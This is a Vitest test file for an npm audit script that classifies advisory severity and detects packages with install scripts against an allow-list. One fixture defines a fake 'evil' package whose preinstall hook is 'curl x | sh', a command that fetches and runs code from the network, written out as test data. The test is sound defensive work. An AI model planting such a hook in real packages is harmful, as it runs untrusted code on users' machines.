import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { approved, classifyAudit, packagesWithInstallScripts } from '../../../scripts/audit.ts';

describe('npm audit outcome', () => {
  it('fails on high or critical advisories and names them', () => {
    const report = {
      vulnerabilities: {
        lodash: { severity: 'high', range: '<4.17.21' },
        minimist: { severity: 'low', range: '<1.2.6' },
      },
      metadata: { vulnerabilities: { info: 0, low: 1, moderate: 0, high: 1, critical: 0 } },
    };
    const r = classifyAudit(JSON.stringify(report), '');
    expect(r.kind).toBe('vulnerable');
    expect(r.kind === 'vulnerable' && r.lines.join('\n')).toMatch(/lodash <4\.17\.21 \(high\)/);
    expect(r.kind === 'vulnerable' && r.lines.join('\n')).not.toMatch(/minimist/);
  });

  it('passes when only low and moderate advisories exist', () => {
    const report = { metadata: { vulnerabilities: { low: 3, moderate: 2, high: 0, critical: 0 } } };
    expect(classifyAudit(JSON.stringify(report), '')).toEqual({ kind: 'ok' });
  });

  it('tells an unreachable or refusing audit service apart from vulnerabilities', () => {
    const refused = {
      message: '405 Method Not Allowed - POST https://registry.npmjs.org/-/npm/v1/security/advisories/bulk',
      statusCode: 405,
    };
    expect(classifyAudit(JSON.stringify(refused), '')).toMatchObject({
      kind: 'unavailable',
      reason: expect.stringContaining('405'),
    });
    expect(classifyAudit('', 'npm error code ENOTFOUND\nnpm error network')).toMatchObject({
      kind: 'unavailable',
      reason: expect.stringContaining('ENOTFOUND'),
    });
  });
});

describe('install-scripts allow-list', () => {
  it('finds packages with install scripts or native builds, nested and scoped', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'gongshi-audit-'));
    const pkg = (rel: string, manifest: object, gyp = false) => {
      mkdirSync(path.join(dir, rel), { recursive: true });
      writeFileSync(path.join(dir, rel, 'package.json'), JSON.stringify(manifest));
      if (gyp) writeFileSync(path.join(dir, rel, 'binding.gyp'), '{}');
    };
    pkg('node_modules/esbuild', { name: 'esbuild', version: '0.25.0', scripts: { postinstall: 'node install.js' } });
    pkg('node_modules/plain', { name: 'plain', version: '1.0.0', scripts: { test: 'x' } });
    pkg('node_modules/@scope/native', { name: '@scope/native', version: '2.0.0' }, true);
    pkg('node_modules/plain/node_modules/evil', {
      name: 'evil',
      version: '0.0.1',
      scripts: { preinstall: 'curl x | sh' },
    });
    expect(packagesWithInstallScripts(dir)).toEqual(['@scope/native@2.0.0', 'esbuild@0.25.0', 'evil@0.0.1']);
  });

  it('accepts name-only and pinned approvals, nothing else', () => {
    const allow = { esbuild: true, '@scope/native@2.0.0': true, evil: false };
    expect(approved(allow, 'esbuild@0.25.0')).toBe(true);
    expect(approved(allow, '@scope/native@2.0.0')).toBe(true);
    expect(approved(allow, '@scope/native@2.0.1')).toBe(false);
    expect(approved(allow, 'evil@0.0.1')).toBe(false);
  });
});
